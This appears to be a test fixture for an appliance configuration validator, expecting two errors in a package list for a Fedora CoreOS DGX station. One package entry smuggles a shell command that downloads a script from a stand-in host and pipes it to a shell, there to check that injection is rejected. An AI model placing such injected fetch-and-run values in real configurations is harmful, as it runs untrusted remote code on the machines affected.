# Package names reach the package tool in a shell: one with a shell
# metacharacter is an error at that element, and so is one with a space.
# ERRORS: 2
appliance "coop" {
  hardware = "dgx-station-gb300"
  hostname = "coop"

  admin "ops" {
    ssh_authorized_keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILnO8ve6aA/kk4bxmNnghr5ZuFYyC95xMYvMFQpRW2sP ops@example"]
  }
}

os {
  base          = "quay.io/fedora/fedora-coreos:42.20250721.3.0@sha256:67c9125048afe7168a7da7353ee4c15bca8bd1220bfcde4a54bfaf086badba35"
  nvidia_driver = "580"
  packages      = ["tmux", "htop;curl evil.example|sh", "git lfs"]
}
